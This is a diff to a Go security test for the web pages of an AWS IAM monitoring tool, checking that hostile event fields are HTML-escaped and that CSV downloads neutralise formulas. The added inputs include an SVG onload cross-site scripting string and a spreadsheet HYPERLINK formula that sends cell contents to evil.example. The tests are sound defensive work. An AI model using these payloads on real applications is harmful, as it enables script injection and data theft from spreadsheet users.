@@ -1,7 +1,9 @@
 package web
 
 import (
+	"bytes"
 	"context"
+	"encoding/json"
 	"fmt"
 	"html/template"
 	"net/http"
@@ -15,6 +17,7 @@ import (
 
 	"github.com/iamwatch/iamwatch"
 	"github.com/iamwatch/iamwatch/notify/notifytest"
+	"github.com/iamwatch/iamwatch/query"
 )
 
 // hostile is the sinks' table plus what matters in HTML attributes and URLs.
@@ -24,6 +27,8 @@ func hostile() []struct{ Name, Value string } {
 		struct{ Name, Value string }{"single quote", `' onmouseover='alert(4)`},
 		struct{ Name, Value string }{"javascript url", "javascript:alert(5)"},
 		struct{ Name, Value string }{"closing tags", `</td></tr></table></textarea></title><script>alert(6)</script>`},
+		struct{ Name, Value string }{"svg escape", `</text></svg><svg onload=alert(7)>`},
+		struct{ Name, Value string }{"spreadsheet formula", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
 	)
 }
 
@@ -45,7 +50,7 @@ func rawMarkup(body string) []string {
 			for _, a := range tok.Attr {
 				v := strings.ToLower(strings.TrimSpace(a.Val))
 				switch {
-				case strings.HasPrefix(a.Key, "on"), a.Key == "autofocus" && tok.Data != "input", a.Key == "x":
+				case strings.HasPrefix(a.Key, "on"), a.Key == "autofocus" && tok.Data != "input", a.Key == "x" && !svgTags[tok.Data]:
 					bad = append(bad, fmt.Sprintf("attribute %s on <%s>", a.Key, tok.Data))
 				case (a.Key == "href" || a.Key == "src" || a.Key == "action") && (strings.HasPrefix(v, "javascript:") || strings.Contains(v, "//evil")):
 					bad = append(bad, fmt.Sprintf("%s=%q on <%s>", a.Key, a.Val, tok.Data))
@@ -58,8 +63,12 @@ func rawMarkup(body string) []string {
 // templateTags are the elements the templates write.
 var templateTags = map[string]bool{}
 
+// svgTags are the chart's elements, which carry an x attribute of their own
+// (the attribute-quote string's x="…" is flagged elsewhere).
+var svgTags = map[string]bool{"rect": true, "text": true}
+
 func init() {
-	for _, t := range strings.Fields("html head meta title link body header nav a form input span button main h1 h2 p section dl dt dd strong blockquote label select option textarea table thead tbody tr th td ul li code div") {
+	for _, t := range strings.Fields("html head meta title link body header nav a form input span button main h1 h2 p section dl dt dd strong blockquote label select option textarea table thead tbody tr th td ul li code div pre br em figure figcaption svg g rect line text") {
 		templateTags[t] = true
 	}
 }
@@ -79,7 +88,8 @@ func TestHostileStringsEscaped(t *testing.T) {
 		evs = append(evs, iamwatch.Event{
 			ID: id, Time: base.Add(time.Duration(i) * time.Minute), Source: "signin.amazonaws.com", Name: "ConsoleLogin",
 			UserName: h.Value, UserAgent: h.Value, SourceIP: h.Value, AccountID: "111122223333", Region: "us-east-1",
-			IdentityType: "Root", ErrorCode: h.Value, MFAUsed: "no",
+			IdentityType: "Root", ErrorCode: h.Value, MFAUsed: "no", PrincipalARN: h.Value, ErrorMessage: h.Value,
+			Raw: rawRecord(id, h.Value),
 		})
 		a := notifytest.HostileAlert(h.Value)
 		a.DedupKey = fmt.Sprintf("hostile/%02d/%s", i, h.Value)
@@ -96,6 +106,10 @@ func TestHostileStringsEscaped(t *testing.T) {
 	if err := c.st.Enqueue(ctx, alerts[0].DedupKey, []string{"slack"}, base); err != nil {
 		t.Fatal(err)
 	}
+	// A failed delivery with a hostile error: the page draws its Retry form.
+	if err := c.st.UpdateDelivery(ctx, iamwatch.Delivery{AlertKey: alerts[0].DedupKey, Sink: "slack", Status: iamwatch.DeliveryFailed, NextTry: base, LastError: hs[0].Value}); err != nil {
+		t.Fatal(err)
+	}
 	c.signIn()
 	// A triage note is attacker-influenced too (a colleague's paste).
 	for _, a := range alerts {
@@ -107,14 +121,21 @@ func TestHostileStringsEscaped(t *testing.T) {
 			t.Fatalf("triage %q: %d\n%s", a.DedupKey, r.status, r.body)
 		}
 	}
-	pages := []string{"/", "/alerts", "/alerts?status=acknowledged", "/events", "/events?errors=1"}
+	pages := []string{"/", "/alerts", "/alerts?status=acknowledged", "/events", "/events?errors=1", "/questions", "/rules"}
+	for _, q := range query.All() {
+		pages = append(pages, "/question/"+q.Name+"?since=&until=&user=")
+	}
 	for _, h := range hs {
 		v := url.QueryEscape(h.Value)
 		pages = append(pages, "/alerts?rule="+v+"&actor="+v+"&account="+v, "/events?user="+v+"&source-ip="+v+"&event-name="+v,
-			"/alert?key="+v, "/signin?next="+v)
+			"/alert?key="+v, "/signin?next="+v, "/actor?user="+v, "/question/user_lookup?since=&user="+v, "/question/root_usage?since="+v,
+			"/question/off_hours?tz="+v+"&hours="+v, "/question/"+v, "/rules?tag="+v+"&severity="+v, "/actor?user="+v+"&errors=1", "/event?id="+v)
 	}
 	for _, a := range alerts {
 		pages = append(pages, "/alert?"+url.Values{"key": {a.DedupKey}}.Encode())
+	}
+	for _, e := range evs {
+		pages = append(pages, "/event?"+url.Values{"id": {e.ID}}.Encode())
 	}
 	for _, p := range pages {
 		r := c.get(p)
@@ -131,6 +152,11 @@ func TestHostileStringsEscaped(t *testing.T) {
 			}
 		}
 	}
+	// The CSV download neutralises the formula (a user agent of root).
+	dl := c.get("/question/root_usage?since=&format=csv")
+	if !strings.Contains(dl.body, `'=HYPERLINK(`) || strings.Contains(dl.body, `,=HYPERLINK(`) || strings.Contains(dl.body, `,"=HYPERLINK(`) {
+		t.Errorf("the CSV download does not neutralise a formula:\n%.3000s", dl.body)
+	}
 	// The hostile text is on the pages, escaped: the checks above do not
 	// pass because the data never reached them.
 	for i, h := range hs {
@@ -142,6 +168,16 @@ func TestHostileStringsEscaped(t *testing.T) {
 			t.Errorf("alert page of the %s string does not show it escaped (%q)", h.Name, esc)
 		}
 	}
+}
+
+// rawRecord is a stored record carrying v, written as JSON without
+// escaping <, > and & (as CloudTrail writes them).
+func rawRecord(id, v string) json.RawMessage {
+	var b bytes.Buffer
+	enc := json.NewEncoder(&b)
+	enc.SetEscapeHTML(false)
+	_ = enc.Encode(map[string]any{"eventID": id, "userAgent": v, "requestParameters": map[string]string{"roleSessionName": v}})
+	return bytes.TrimSpace(b.Bytes())
 }
 
 // TestRawMarkupCatches: the checker flags each hostile string written
